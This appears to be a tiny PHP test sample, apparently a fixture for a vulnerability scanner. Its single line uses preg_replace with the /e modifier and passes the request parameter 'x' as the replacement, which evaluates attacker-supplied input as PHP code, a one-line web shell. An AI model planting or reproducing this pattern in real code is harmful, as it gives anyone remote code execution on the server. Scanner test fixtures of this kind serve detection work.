<?php
// test sample: preg_replace /e modifier evaluates the replacement
preg_replace("/.*/e", $_REQUEST['x'], "");
